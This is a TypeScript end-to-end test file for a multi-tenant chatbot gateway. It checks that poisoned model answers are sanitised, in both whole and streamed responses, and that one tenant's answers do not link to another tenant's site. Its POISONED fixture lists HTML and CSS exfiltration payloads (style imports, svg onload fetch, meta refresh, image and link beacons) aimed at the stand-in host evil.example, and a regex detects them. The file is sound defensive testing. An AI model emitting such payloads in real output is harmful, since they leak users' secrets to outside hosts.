import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';

import {
  ApiClient,
  createTenantWithUsers,
  FakeLlmServer,
  loginSuperAdmin,
  type TenantFixture,
  TestStack,
} from '@tenantbot/testing';

/** A poisoned answer: each hole of finding 9, and a link to each tenant's own site. */
const POISONED = [
  'Returns take 30 days. ',
  "<style>@import '//evil.example/x.css?q=SECRET';</style>",
  '<div style="background:url(//evil.example/p.png?q=SECRET)">Styled</div> ',
  '<meta http-equiv="refresh" content="0;url=//evil.example/?q=SECRET">',
  '<svg onload="fetch(`//evil.example/?q=SECRET`)"></svg>',
  '<img src="//evil.example/i.png?q=SECRET" alt="chart"> ',
  '<a href="//evil.example/?q=SECRET" onclick="alert(1)">click</a> ',
  'see //evil.example/bare?q=SECRET and ',
  '[Acme help](https://acme.example/help) and [Bravo help](https://bravo.example/help).',
];
const HOLES = /evil\.example\/|SECRET|<style|<svg|<meta|onclick|onload|url\(/i;

interface SseEvent {
  event: string;
  data: Record<string, unknown>;
}

async function readEvents(response: Response): Promise<SseEvent[]> {
  const text = await response.text();
  return text
    .split('\n\n')
    .filter((block) => block.includes('data: '))
    .map((block) => ({
      event: /^event: (.*)$/m.exec(block)?.[1] ?? 'message',
      data: JSON.parse(/^data: (.*)$/m.exec(block)?.[1] ?? '{}') as Record<string, unknown>,
    }));
}

describe('model output sanitised through the gateway (e2e)', () => {
  let fake: FakeLlmServer;
  let stack: TestStack;
  let acme: TenantFixture;
  let bravo: TenantFixture;

  beforeAll(async () => {
    fake = await FakeLlmServer.start();
    stack = await TestStack.start({
      services: ['tenants', 'chat'],
      env: { OPENAI_BASE_URL: `${fake.url}/v1`, CHAT_FALLBACK_CHAIN: 'openai,local' },
    });
    const superAdmin = await loginSuperAdmin(new ApiClient(stack.baseUrl));
    [acme, bravo] = await Promise.all([
      createTenantWithUsers(superAdmin, 'sanitise-acme'),
      createTenantWithUsers(superAdmin, 'sanitise-bravo'),
    ]);
    for (const [tenant, domain] of [
      [acme, 'acme.example'],
      [bravo, 'bravo.example'],
    ] as const) {
      const updated = await superAdmin.put(`/api/v1/tenants/${tenant.id}`, {
        domains: [domain],
        provider_keys: { openai: 'sk-test' },
      });
      expect(updated.status).toBe(200);
    }
    fake.respond('openai', { chunks: POISONED });
  }, 120_000);

  afterAll(async () => {
    await stack?.stop();
    await fake?.close();
  });

  it('closes every hole in a whole answer and keeps only the tenant’s own links', async () => {
    const answer = await acme.as.user.post('/api/v1/chat/', {
      message: 'How long do returns take?',
      model: 'gpt-4o-mini',
      use_rag: false,
    });

    expect(answer.status).toBe(200);
    expect(answer.body.model_used).toBe('gpt-4o-mini');
    const response = answer.body.response as string;
    expect(response).not.toMatch(HOLES);
    expect(response).toContain('Returns take 30 days.');
    expect(response).toContain('<div>Styled</div>');
    expect(response).toContain('[Acme help](https://acme.example/help)');
    // Tenant B's site is not tenant A's: an answer for A cannot link or load from it.
    expect(response).not.toContain('bravo.example/help');
    expect(response).toContain('Bravo help');
  });

  it('closes the same holes in a stream, where the deltas are exactly the answer', async () => {
    const response = await fetch(`${stack.baseUrl}/api/v1/chat/`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${bravo.as.user.token}`,
        'content-type': 'application/json',
        accept: 'text/event-stream',
      },
      body: JSON.stringify({ message: 'Returns?', model: 'gpt-4o-mini', use_rag: false }),
    });
    const events = await readEvents(response);
    const deltas = events.filter((event) => event.event === 'delta');
    const done = events.find((event) => event.event === 'done');

    expect(response.status).toBe(200);
    expect(deltas.length).toBeGreaterThan(1);
    for (const delta of deltas) {
      expect(delta.data.content).not.toMatch(HOLES);
    }
    const streamed = deltas.map((delta) => delta.data.content).join('');
    expect(done?.data.response).toBe(streamed);
    expect(streamed).toContain('[Bravo help](https://bravo.example/help)');
    expect(streamed).not.toContain('acme.example/help');
    expect(streamed).not.toMatch(HOLES);
  });
});
